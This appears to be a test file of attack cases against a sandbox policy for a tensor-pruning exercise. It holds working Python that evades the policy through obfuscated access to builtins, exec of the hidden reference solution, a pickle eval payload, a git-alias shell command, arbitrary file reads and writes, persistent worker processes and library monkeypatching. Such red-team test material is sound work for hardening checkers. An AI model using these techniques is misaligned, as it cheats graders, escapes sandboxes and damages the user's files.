"""Attacks on exercise 1.3, global_magnitude_masks: around the policy, with means that look harmless."""


### ATTACK a_pattern_reads_attributes: The class pattern of `match` reads an attribute by a keyword.
def global_magnitude_masks(weights, sparsity):
    match global_magnitude_masks:
        case object(__globals__=scope):
            inside = next(scope[name] for name in scope if name.endswith("builtins" + "__"))
    if not hasattr(inside, "keys"):
        inside = vars(inside)
    found = {}
    inside["exec"](inside["open"]("@ROOT@/solutions/pruning.py").read(), found)
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK an_attribute_by_a_variable: getattr with a name that was put together one line before.
def global_magnitude_masks(weights, sparsity):
    name = "_" * 2 + "globals" + "_" * 2
    scope = getattr(global_magnitude_masks, name)
    inside = scope["_" * 2 + "builtins" + "_" * 2]
    if not hasattr(inside, "keys"):
        inside = vars(inside)
    found = {}
    inside["exec"](inside["open"]("@ROOT@/solutions/pruning.py").read(), found)
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK getattr_handed_on: getattr is not called but given to map.
def global_magnitude_masks(weights, sparsity):
    (scope,) = map(getattr, [global_magnitude_masks], ["_" * 2 + "globals" + "_" * 2])
    inside = scope["_" * 2 + "builtins" + "_" * 2]
    if not hasattr(inside, "keys"):
        inside = vars(inside)
    found = {}
    inside["exec"](inside["open"]("@ROOT@/solutions/pruning.py").read(), found)
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK the_dictionary_of_a_module: vars of a part of torch holds the modules that it imported.
def global_magnitude_masks(weights, sparsity):
    machinery = vars(torch.nn.functional)["importlib"].import_module("importlib.machinery")
    loader = machinery.SourceFileLoader("found", "@ROOT@/solutions/pruning.py")
    return loader.load_module().global_magnitude_masks(weights, sparsity)


### ATTACK a_formatter_finds_fields: string.Formatter follows attributes that a text names.
def global_magnitude_masks(weights, sparsity):
    from string import Formatter

    line = "_" * 2
    inside, _ = Formatter().get_field(
        f"0.{line}globals{line}[{line}builtins{line}]", [global_magnitude_masks], {}
    )
    if not hasattr(inside, "keys"):
        inside = vars(inside)
    found = {}
    inside["exec"](inside["open"]("@ROOT@/solutions/pruning.py").read(), found)
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK a_hint_is_evaluated: typing computes annotations that are texts.
def global_magnitude_masks(weights, sparsity):
    from typing import get_type_hints

    found = {}

    def helper(x: "exec(open('@ROOT@/solutions/pruning.py').read(), found)"):
        return x

    get_type_hints(helper, None, {"found": found})
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK torch_writes_code: torch.fx lets a class of its own say which source text it compiles.
class Writer(torch.fx.graph.CodeGen):
    def gen_fn_def(self, *_):
        body = "exec(open('@ROOT@/solutions/pruning.py').read(), found := {})"
        return f"def forward(self):\n    {body}\n    return found"


def global_magnitude_masks(weights, sparsity):
    graph = torch.fx.Graph()
    graph.output(None)
    graph.set_codegen(Writer())
    found = torch.fx.GraphModule(nn.Module(), graph)()
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK git_runs_a_command: A helper of the course calls git, and git has aliases that are commands of the shell.
def global_magnitude_masks(weights, sparsity):
    from minicompress.lab.machine import git

    text = git("-c", "alias.x=!cat @ROOT@/solutions/pruning.py #", "x")
    code = torch.fx.graph.CodeGen()
    code.gen_fn_def = lambda *_: f"def forward(self):\n    exec({text!r}, found := {{}})\n    return found"
    graph = torch.fx.Graph()
    graph.output(None)
    graph.set_codegen(code)
    return torch.fx.GraphModule(nn.Module(), graph)()["global_magnitude_masks"](weights, sparsity)


### ATTACK numpy_by_another_name: numpy's own parts call it np; its load unpickles what a class of ours reads out.
class Bytes:
    def __init__(self, data):
        self.data, self.place = data, 0

    def read(self, count=-1):
        end = len(self.data) if count < 0 else self.place + count
        part, self.place = self.data[self.place : end], min(end, len(self.data))
        return part

    def readline(self):
        return self.read(self.data.index(b"\n", self.place) + 1 - self.place)

    def seek(self, place, start=0):
        self.place = place if start == 0 else self.place + place


def global_magnitude_masks(weights, sparsity):
    import numpy

    command = "exec(open('@ROOT@/solutions/pruning.py').read(), found := {}) or found"
    pickled = b"cbuiltins\neval\n(V" + command.encode() + b"\ntR."
    found = numpy.ma.core.np.load(Bytes(pickled), allow_pickle=True)
    return found["global_magnitude_masks"](weights, sparsity)


### ATTACK numpy_reads_a_file: A record array is read from any path.
def global_magnitude_masks(weights, sparsity):
    import numpy

    text = bytes(numpy.rec.fromfile("@ROOT@/solutions/pruning.py", dtype="u1", shape=20_000).f0).decode()
    raise ValueError(text[text.index("def global_magnitude_masks") :][:3000])


### ATTACK torch_reads_a_file: A part of torch's data loading opens any path.
def global_magnitude_masks(weights, sparsity):
    pipe = torch.utils.data.datapipes.iter.FileOpener(["@ROOT@/solutions/pruning.py"], mode="r")
    for _, stream in pipe:
        text = stream.read()
    raise ValueError(text[text.index("def global_magnitude_masks") :][:3000])


### ATTACK numpy_writes_a_file: An array in a file, by another name of numpy.
def global_magnitude_masks(weights, sparsity):
    import numpy

    numpy.ma.core.np.memmap("@HOME@/precious", mode="w+", shape=100)[:] = 1
    return {}


### ATTACK torch_starts_processes: A loader of batches starts workers, which stay while somebody holds it.
class Endless(torch.utils.data.IterableDataset):
    def __iter__(self):
        while True:
            yield 1


kept = []


def global_magnitude_masks(weights, sparsity):
    kept.append(iter(torch.utils.data.DataLoader(Endless(), num_workers=4, persistent_workers=True)))
    next(kept[-1])
    return {}


### ATTACK changes_a_library_object: It changes what an imported module holds, by a name of its own for it.
def global_magnitude_masks(weights, sparsity):
    library = torch.nn.functional
    library.relu = library.softmax = lambda *_, **__: 0
    kind = type(next(iter(weights.values())))
    kind.sum = lambda self, *_, **__: 0
    kind.tolist = lambda self: [False] * self.numel()
    return {}
